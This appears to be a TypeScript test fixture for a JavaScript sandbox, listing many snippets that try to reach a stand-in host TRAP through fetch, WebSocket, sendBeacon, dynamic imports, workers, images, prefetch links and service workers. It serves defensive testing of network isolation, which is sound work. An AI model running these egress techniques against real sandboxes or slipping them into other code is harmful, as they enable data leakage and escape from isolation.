/** Programs that try to reach a server. */
import {FINISHED, type Hostile, tries} from './hostile';

export const NETWORK: readonly Hostile[] = [
  tries('fetch', "await fetch('http://TRAP/fetch'); console.log('REACHED');"),
  tries(
    'fetch without CORS, kept alive',
    "await fetch('http://TRAP/beacon', {mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'}); console.log('REACHED');",
  ),
  tries(
    'XMLHttpRequest',
    "const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/xhr', false); x.send(); console.log('REACHED');",
  ),
  tries('WebSocket', "new WebSocket('ws://TRAP/socket').onopen = () => console.log('REACHED');"),
  tries('EventSource', "new EventSource('http://TRAP/events').onopen = () => console.log('REACHED');"),
  tries('WebTransport', "new WebTransport('https://TRAP/transport');"),
  tries('RTCPeerConnection', "new RTCPeerConnection({iceServers: [{urls: 'stun:TRAP'}]}).createDataChannel('x');"),
  tries('sendBeacon', "navigator.sendBeacon('http://TRAP/beacon', 'x') && console.log('REACHED');"),
  tries('import()', "await import('http://TRAP/module'); console.log('REACHED');"),
  tries(
    'import() of a name in a variable',
    "const url = 'http://TRAP/module'; await import(url); console.log('REACHED');",
  ),
  tries(
    'import() of data',
    "await import('data:text/javascript,fetch(\"http://TRAP/data\")'); console.log('REACHED');",
  ),
  {
    name: 'import from a URL',
    source: "import {x} from 'http://TRAP/static';\nconsole.log(x, 'REACHED');",
    ends: /^Failed: TypeError: Only 'model' can be imported/,
  },
  {
    name: 'import for its effects',
    source: "import 'http://TRAP/effects';",
    ends: /^Failed: TypeError: Only 'model' can be imported/,
  },
  {
    name: 'export from a URL',
    source: "export * from 'http://TRAP/export';",
    ends: /^Failed: TypeError: Only 'model' can be imported/,
  },
  tries('importScripts', "importScripts('http://TRAP/scripts'); console.log('REACHED');"),
  tries(
    'a worker from a URL',
    "new Worker('http://TRAP/worker');",
    "new Worker('http://TRAP/worker', {type: 'module'});",
  ),
  tries('a worker from a blob', 'new Worker(URL.createObjectURL(new Blob([\'fetch("http://TRAP/nested")\'])));'),
  tries('a worker from data', 'new Worker(\'data:text/javascript,fetch("http://TRAP/nested")\');'),
  tries(
    'a shared worker',
    "new SharedWorker('http://TRAP/shared');",
    'new SharedWorker(\'data:text/javascript,fetch("http://TRAP/shared")\');',
  ),
  tries(
    'images and fonts',
    "new Image().src = 'http://TRAP/image';",
    "new FontFace('f', 'url(http://TRAP/font)').load();",
    'document.body.innerHTML = \'<img src="http://TRAP/img">\';',
  ),
  tries('frames', "const f = document.createElement('iframe'); f.src = 'http://TRAP/frame'; document.body.append(f);"),
  tries(
    'looking up names ahead of use',
    "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//TRAP'; document.head.append(l);",
    "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://TRAP'; document.head.append(l);",
  ),
  tries(
    'a service worker',
    "await navigator.serviceWorker.register('http://TRAP/service');",
    "await navigator.serviceWorker.register('/page.js');",
  ),
  {
    name: 'comments that name a source map',
    source:
      "console.log('done');\nconsole.log(new Error('x').stack!.length > 0);\n//# sourceMappingURL=http://TRAP/map\n//# sourceURL=http://TRAP/source",
    ends: FINISHED,
    prints: ['done', 'true'],
  },
  tries(
    'a report of a violation',
    'new ReportingObserver(() => {}).observe();',
    "eval('1');",
    "await fetch('http://TRAP/again');",
  ),
];
